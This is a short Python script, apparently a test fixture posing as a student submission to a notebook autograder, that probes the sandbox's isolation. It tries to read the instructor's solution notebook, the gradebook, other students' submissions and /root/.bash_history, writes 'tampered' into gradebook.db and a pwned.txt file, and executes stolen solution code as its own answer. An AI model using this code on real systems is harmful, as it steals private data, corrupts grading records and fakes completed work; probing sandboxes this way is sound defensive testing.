import glob
import json
import os

targets = ["{{SOURCE_DIR}}/ex1_manual_attention/ex1_manual_attention.ipynb", "{{COURSE_DIR}}/gradebook.db",
           "{{COURSE_DIR}}/release/ex1_manual_attention/ex1_manual_attention.ipynb", "/root/.bash_history"]
stolen = None
for path in targets + glob.glob("{{COURSE_DIR}}/submitted/*/*/*.ipynb"):
    try:
        with open(path, "rb") as handle:
            data = handle.read()
        print("OPENED", path)
        if path.endswith("ex1_manual_attention.ipynb") and b"BEGIN SOLUTION" in data:
            cells = json.loads(data)["cells"]
            stolen = next("".join(c["source"]) for c in cells if "def self_attention" in "".join(c["source"]))
    except OSError as error:
        print("BLOCKED", path, type(error).__name__)
for path, mode in (("{{COURSE_DIR}}/gradebook.db", "ab"), ("{{COURSE_DIR}}/pwned.txt", "w")):
    try:
        with open(path, mode) as handle:
            handle.write(b"tampered" if "b" in mode else "tampered")
        print("OPENED for writing", path)
    except OSError as error:
        print("BLOCKED writing", path, type(error).__name__)
if stolen:
    exec(stolen)
else:
    def self_attention(X, W_q, W_k, W_v):
        return X, X
